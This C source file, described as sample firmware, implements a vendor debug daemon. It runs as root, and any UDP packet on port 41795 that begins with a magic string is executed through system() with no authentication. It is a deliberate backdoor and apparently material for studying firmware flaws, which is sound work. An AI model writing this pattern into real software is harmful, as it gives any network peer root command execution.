/* The maker's debug daemon: a UDP packet that starts with a magic word is a command line for root. Sample firmware. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAGIC "LUMEN_DEBUG_EXEC:"
#define PORT 41795

static void run(const char *command, int fd, struct sockaddr_in *peer, socklen_t size)
{
    char answer[64];
    int status = system(command);
    int n = snprintf(answer, sizeof answer, "status %d\n", status);
    sendto(fd, answer, n, 0, (struct sockaddr *)peer, size);
}

int main(void)
{
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(PORT)}, peer;
    static char packet[1500];
    int fd = socket(AF_INET, SOCK_DGRAM, 0);

    if (bind(fd, (struct sockaddr *)&here, sizeof here))
        return 1;
    for (;;) {
        socklen_t size = sizeof peer;
        int n = recvfrom(fd, packet, sizeof packet - 1, 0, (struct sockaddr *)&peer, &size);
        if (n <= 0)
            continue;
        packet[n] = 0;
        if (memcmp(packet, MAGIC, sizeof MAGIC - 1) == 0)
            run(packet + sizeof MAGIC - 1, fd, &peer, size);
    }
}
